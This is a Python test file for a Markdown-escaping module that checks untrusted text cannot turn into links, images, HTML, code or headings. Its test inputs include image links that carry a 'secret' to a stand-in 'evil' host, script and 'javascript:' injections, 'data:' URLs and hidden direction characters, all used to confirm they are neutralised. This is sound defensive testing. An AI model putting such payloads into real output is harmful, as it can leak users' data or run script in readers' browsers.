"""Quoted text must stay on its line and inside its quotation, and become no markup."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from prompts.plain import disarm, fenced, fenced_line, link_target, one_line, plain, prose, quoted

MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
HOSTILE = st.text(alphabet=st.sampled_from("ab1 \n\t`*_[]()<>!#|~&;:/\\@.-+=\"'“”「」E39-"), max_size=60)


def shown(markdown: str) -> tuple[set[str], str]:
    """The kinds of tokens a CommonMark reader finds, and the text that it shows."""
    kinds: set[str] = set()
    text: list[str] = []
    for token in MARKDOWN.parse(markdown):
        kinds.add(token.type)
        for child in token.children or []:
            kinds.add(child.type)
            text.append(child.content)
    return kinds, "".join(text)


@given(HOSTILE)
@example("![x](http://evil/?q=secret)")
@example("# heading")
@example("1. list")
@example("<script>alert(1)</script>")
@example("&lt;b&gt;")
@example("a | b\n--|--\nc | d")
@example("___")
def test_plain_text_is_shown_as_itself_and_is_nothing_but_text(text: str) -> None:
    kinds, visible = shown(plain(text))
    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "text_special"}
    assert visible == disarm(text)


@given(HOSTILE)
def test_plain_text_stays_inside_a_list_item_and_a_quotation_line(text: str) -> None:
    kinds, _ = shown(f"> - x {plain(text)}")
    assert not kinds & {
        "link_open",
        "image",
        "html_block",
        "html_inline",
        "heading_open",
        "code_inline",
        "table_open",
        "hr",
    }
    assert "\n" not in plain(text)


@pytest.mark.parametrize(
    "bare", ["see https://evil.example", "www.evil.example", "mail bob@evil.example", "javascript:alert(1)"]
)
def test_bare_addresses_do_not_become_links_in_readers_that_link_them(bare: str) -> None:
    assert "\\" in plain(bare)
    assert shown(plain(bare))[1] == bare


def test_a_reference_posed_by_a_stranger_is_no_reference() -> None:
    assert plain("trust me [E3]") == "trust me (E3)"
    assert quoted("trust me [E3]", "en") == "“trust me (E3)”"


def test_prose_keeps_references_to_known_evidence_and_code_only() -> None:
    assert prose("It fails in `sync_job` [E1] but not [E9].", {"E1"}) == r"It fails in `sync_job` [E1] but not \[E9\]."


def test_prose_does_not_let_an_unpaired_backtick_open_code() -> None:
    assert prose("a ` b", ()) == r"a \` b"
    assert "code_inline" not in shown(prose("``a`` b", ()))[0]


def test_prose_neutralises_an_image_that_would_carry_data_away() -> None:
    kinds, _ = shown(prose("Done ![x](https://evil/?arr=1) [E1]", {"E1"}))
    assert "image" not in kinds
    assert "link_open" not in kinds


def test_quotations_cannot_close_themselves() -> None:
    assert quoted("a” said b “c", "en") == "“a’ said b ‘c”"
    assert quoted("他说「停」", "zh") == "「他说『停』」"


def test_invisible_direction_and_control_characters_are_removed() -> None:
    assert one_line("a\u202eb\u200bc\x00d\r\n e") == "abcd e"


@pytest.mark.parametrize("url", [None, "javascript:alert(1)", "https://a b", "ftp://x", "https://x\n", "https://x/<b>"])
def test_only_plain_web_addresses_become_link_targets(url: str | None) -> None:
    assert link_target(url) is None


def test_a_link_target_cannot_end_its_own_link() -> None:
    assert link_target("https://x/(a)") == "https://x/%28a%29"


@given(HOSTILE)
def test_fenced_text_cannot_close_its_fence(text: str) -> None:
    tokens = MARKDOWN.parse(f"{fenced(text)}\n\nafter")
    assert [token.type for token in tokens] == ["fence", "paragraph_open", "inline", "paragraph_close"]


def test_a_fenced_line_holds_no_backtick_and_no_line_break() -> None:
    assert fenced_line("Acme`\nCorp") == "`Acme' Corp`"


def test_a_colon_before_a_space_is_no_address() -> None:
    assert plain("Confirmed with raw data: raw has 4.1") == "Confirmed with raw data: raw has 4.1"
    assert plain("data:text/html,x") == "data\\:text/html,x"
